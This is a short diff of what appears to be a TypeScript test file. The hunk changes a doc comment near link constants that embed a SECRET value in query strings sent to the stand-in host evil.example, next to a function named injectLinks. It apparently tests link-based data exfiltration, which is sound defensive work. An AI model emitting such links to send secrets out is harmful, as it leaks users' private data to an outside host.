@@ -198,7 +198,7 @@ const LINKS = [
   `[b](https://evil.example/b&quest;q=${SECRET})`,
   `evil.example/c?q=${SECRET}`,
 ];
-/** It cannot be written without its address. */
+/** A text that cannot be written without its address. */
 const FIXED_LINK = `> [d](//evil.example/d?q=${SECRET}\n> 'title')`;
 
 async function injectLinks(): Promise<Outcome> {
